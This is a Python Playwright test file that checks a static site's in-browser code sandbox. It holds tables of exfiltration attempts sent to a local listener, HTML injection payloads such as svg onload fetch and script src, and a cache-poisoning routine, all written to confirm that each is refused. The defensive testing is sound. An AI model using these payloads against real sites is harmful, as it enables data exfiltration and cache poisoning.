"""What people's code cannot do on the static site: a table of attacks, each with its refusal.

The code is written in the page's own editor and run. Another origin listens for whatever comes.
"""

import json
import re
import socketserver
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page
from test_own_game_in_the_browser import EDIT
from test_static_site import (
    CACHES,
    KEEP,
    READY,
    address,
    arrive,
    folder,
    serve,
    server,
    wait,
)

__all__ = ["folder", "server"]

# what each tries, in Python; `home` is the address of the other origin
WAYS_OUT = {
    "fetch": "js.fetch(home + 'fetch')",
    "XMLHttpRequest": "r = js.XMLHttpRequest.new(); r.open('GET', home + 'x', False); r.send()",
    "WebSocket": "js.WebSocket.new(home.replace('http', 'ws') + 'socket')",
    "WebSocketStream": "js.WebSocketStream.new(home.replace('http', 'ws') + 'stream')",
    "EventSource": "js.EventSource.new(home + 'events')",
    "WebTransport": "js.WebTransport.new(home.replace('http', 'https') + 'transport')",
    "importScripts": "js.importScripts(home + 'script.js')",
    "import": "js.Function.new('a', 'return import(a)')(home + 'module.js')",
    "eval": "js.eval('fetch(\"' + home + 'eval\")')",
    "run_js": "__import__('pyodide').code.run_js('fetch(\"' + home + 'run_js\")')",
    "FontFace": "f = js.FontFace.new('f', 'url(' + home + 'font)'); js.fonts.add(f); f.load()",
    "beacon": "js.navigator.sendBeacon(home + 'beacon', 'x')",
    "worker of the site": "js.Worker.new(js.siteRoot + 'service-worker.js')",
    "shared worker": "js.SharedWorker.new(js.siteRoot + 'service-worker.js')",
    "worker of a blob": (
        "b = js.Blob.new(['fetch(\"' + home + 'nested\")']);"
        " js.Worker.new(js.URL.createObjectURL(b))"
    ),
    "urllib": "__import__('urllib.request').request.urlopen(home + 'urllib', timeout=1)",
    "socket": "__import__('socket').create_connection(('127.0.0.1', PORT), 1)",
    "pyodide.http": "__import__('pyodide').http.open_url(home + 'open_url')",
    "constructor": "js.fetch.constructor('return fetch(\"' + home + 'constructed\")')()",
}
# what would outlast the visit, or speak with other tabs
LASTING = {
    "caches": "js.caches.open('x')",
    "caches of the prototype": "js.Object.getPrototypeOf(js.self).caches.keys()",
    "indexedDB": "js.indexedDB.open('x')",
    "file system": "js.navigator.storage.getDirectory()",
    "old file system": "js.webkitRequestFileSystem(0, 1, print)",
    "storage buckets": "js.navigator.storageBuckets.open('x')",
    "service worker": "js.navigator.serviceWorker.register('service-worker.js')",
    "other tabs": "js.BroadcastChannel.new('x').postMessage('x')",
    "locks": "js.navigator.locks.request('x', print)",
    "notification": "js.Notification.new('x')",
    "device": "js.navigator.usb.getDevices()",
    "localStorage": "js.localStorage.setItem('x', 'y')",
    "cookie": "js.document.cookie",
}
# through what the page shows
SHOWN = {
    "picture": "<img src='HOMEpicture'>",
    "frame": "<iframe src='HOMEframe'></iframe>",
    "form": "<form action='HOMEform'><button id=b></button></form>",
    "style": "<style>@import 'HOMEstyle'; * { background: url(HOMEbackground) }</style>",
    "sheet": "<link rel=stylesheet href='HOMEsheet'>",
    "script": "<script src='HOMEscript'></script>",
    "handler": "<svg onload=\"fetch('HOMEhandler')\"></svg>",
    "refresh": "<meta http-equiv=refresh content='0;url=HOMErefresh'>",
    "object": "<object data='HOMEobject'></object><embed src='HOMEembed'>",
    "media": "<video src='HOMEvideo' poster='HOMEposter' autoplay></video>",
    "prefetch": "<link rel=prefetch href='HOMEprefetch'><link rel=preload as=image href='HOMEp'>",
    "preconnect": "<link rel=preconnect href='HOME'>",
}
GAME = """
class Mine:
    def __init__(self, left=3):
        self.left = left
    def legal_actions(self):
        return [1, 2]
    def play(self, action):
        return Mine(self.left - 1)
    def is_terminal(self):
        return self.left == 0
    def returns(self):
        return 1
"""
TRY = """
import json
import js
from pyodide.ffi import JsException
PORT = {port}
home = f"http://127.0.0.1:{{PORT}}/"
found = {{}}
for name, code in json.loads({ways!r}).items():
    try:
        exec(code)
        found[name] = "done"
    except (Exception, JsException) as error:
        found[name] = type(error).__name__
raise RuntimeError("found " + json.dumps(found))
"""
SHOW = """
import json
from runtime import Page
texts = json.loads({texts!r})
shown = [model for model in Page.kept.document.models if type(model).__name__ == "HTML"]
for model, text in zip(shown, texts * 9):
    model.text = text
print(len(shown))
"""
OPEN = """
from bokeh.models import CustomJS, OpenURL
from runtime import Page
document = Page.kept.document
(model, *_) = [model for model in document.models if type(model).__name__ == "HTML"]
to = "http://127.0.0.1:{port}/"
callbacks = [CustomJS(code=f"fetch('{{to}}custom')"), OpenURL(url=to + "open", same_tab=True)]
model.js_property_callbacks = {{"change:text": [*callbacks, OpenURL(url=to + "tab")]}}
model.text = "changed"
"""


class Listener(socketserver.ThreadingTCPServer):
    """Another origin, which notes all that comes to it."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self) -> None:
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), Note)

    @property
    def port(self) -> int:
        return self.server_address[1]


class Note(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.request.settimeout(3)
        heard: Listener = self.server  # type: ignore[assignment]
        try:
            line = self.request.recv(400).split(b"\r\n")[0]
        except OSError:
            line = b"connected"
        heard.heard.append(line.decode("latin-1"))


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


def run(page: Page, code: str) -> None:
    """Write code in the page's editor, and press Run."""
    page.locator("header select[data-game]").select_option("your-game")
    page.locator("[data-code]:not([aria-busy]) .ace_line").first.wait_for()
    page.evaluate(EDIT, code)
    page.locator("[data-client='run-code']").click()


def tried(page: Page, listener: Listener, ways: dict[str, str]) -> dict[str, str]:
    """What became of each way, as the code itself saw it."""
    error = page.locator("[data-code-error] p").first
    left = list(ways.items())
    found: dict[str, str] = {}
    while left:
        few = dict(left[:4])
        run(page, TRY.format(port=listener.port, ways=json.dumps(few)) + GAME)
        error.filter(has_text=re.compile(r"found \{|did not return")).wait_for(timeout=120_000)
        # on a busy machine the modules that are fetched late take longer than code may
        if "found {" in error.inner_text():
            found |= json.loads(error.inner_text().partition("found ")[2])
            left = left[4:]
    return found


def test_code_that_runs_reaches_this_site_alone(page: Page, server, listener: Listener) -> None:
    assert arrive(page, address(server))
    found = tried(page, listener, WAYS_OUT)
    page.wait_for_timeout(3000)  # for what is under way
    assert listener.heard == []
    # a request is refused when it is made, or later
    assert {name for name, told in found.items() if told == "done"} <= {"fetch"}
    assert set(found) == set(WAYS_OUT)
    found = tried(page, listener, LASTING)
    assert {name for name, told in found.items() if told == "done"} == set()
    # what it needs is there
    assert tried(page, listener, {"own": "js.fetch(js.siteRoot + 'index.html')"}) == {"own": "done"}


def test_what_code_puts_on_the_page_reaches_this_site_alone(
    page: Page, server, listener: Listener
) -> None:
    assert arrive(page, address(server))
    home = f"http://127.0.0.1:{listener.port}/"
    texts = json.dumps([text.replace("HOME", home) for text in SHOWN.values()])
    run(page, SHOW.format(texts=texts) + GAME)
    page.locator("[data-contract] [data-state='held']").nth(5).wait_for(timeout=120_000)
    page.wait_for_timeout(3000)
    assert listener.heard == []
    run(page, OPEN.format(port=listener.port) + GAME)
    page.wait_for_timeout(4000)
    assert listener.heard == []
    assert len(page.context.pages) == 1
    assert page.url.startswith(address(server))


# -- what is kept for later visits ----------------------------------------------------------------

POISON = """async ([address, text, type, name]) => {
    const names = await caches.keys();
    const cache = await caches.open(name || names.find((each) => each.startsWith("mcsearch ")));
    await cache.put(address, new Response(text, { headers: { "Content-Type": type } }));
}"""
WRONG = "<!doctype html><title>Poisoned</title><p>Not the page"


def test_what_has_been_put_into_the_caches_is_never_served(page: Page, folder: Path) -> None:
    """The page itself, a script of its, a file that is no file of the site; also by another tab."""
    for kept in serve(folder):
        home = address(kept)
        page.goto(home)
        wait(page, READY)
        page.evaluate(KEEP)
        (name,) = page.evaluate(CACHES)
        worker = next(folder.glob("worker-*.js")).name
        python = "pyodide/0.29.5/pyodide.mjs"
        version_before = name.rpartition(" ")[0] + " 0123456789ab"
        for where, what, kind, cache in (
            (home, WRONG, "text/html", ""),
            (f"{home}index.html", WRONG, "text/html", ""),
            (f"{home}index.html", WRONG, "text/html", version_before),
            (f"{home}reference/added.html", WRONG, "text/html", version_before),
            (f"{home}added-{'0' * 32}.html", WRONG, "text/html", version_before),
            (f"{home}tabs", "{", "application/json", version_before),
            (home + worker, "self.postMessage({ type: 'poisoned' })", "text/javascript", ""),
            (home + python, "postMessage({ type: 'poisoned' })", "text/javascript", ""),
        ):
            page.evaluate(POISON, [where, what, kind, cache])
        other = page.context.new_page()
        for tab in (page, other):
            for at in (home, f"{home}index.html", f"{home}?preset=nmcs"):
                tab.goto(at)
                assert tab.title() != "Poisoned"
        for at in (f"{home}reference/added.html", f"{home}added-{'0' * 32}.html"):
            assert other.goto(at).status == 404
        other.close()
        # what was broken has been put right: the next visit needs no network
        page.goto(home)
        wait(page, READY)
        kept.shutdown()
        kept.server_close()
        page.reload()
        wait(page, READY)
        assert page.title() != "Poisoned"


# -- what is kept of a visitor --------------------------------------------------------------------

DAMAGED = {
    "your-game": '{"nim": 7, "mine": "x = 1"}',
    "your-game-foreign": "7",
    "games": '[{"id": 1}, null]',
    "learn": '{"seen": {"random-games": 3}, "last": 5}',
    "theme": "<b>",
    "visited": "[",
}
DAMAGE = """values => {
    for (const [name, value] of Object.entries(values)) localStorage.setItem(name, value);
    sessionStorage.setItem("your-game-restart", '{"name": [], "ran": 3}');
}"""


def test_damaged_values_are_dropped_with_a_word(page: Page, server) -> None:
    page.goto(address(server) + "licenses.txt")
    page.evaluate(DAMAGE, DAMAGED)
    arrive(page, address(server))
    told = page.locator("[data-toast-error]").inner_text()
    assert "damaged" in told
    for what in ("your games’ code", "where code came from", "your progress in Learn"):
        assert what in told
    assert page.evaluate("localStorage.getItem('your-game')") == '{"mine":"x = 1"}'
    assert page.evaluate("localStorage.getItem('your-game-foreign')") is None
    assert page.evaluate("document.documentElement.dataset.theme") in ("light", "dark")
    page.locator("[data-page-link='play']").click()
    page.locator("#play-status[data-game]").wait_for(state="attached")
    page.locator("[data-page-link='learn']").click()
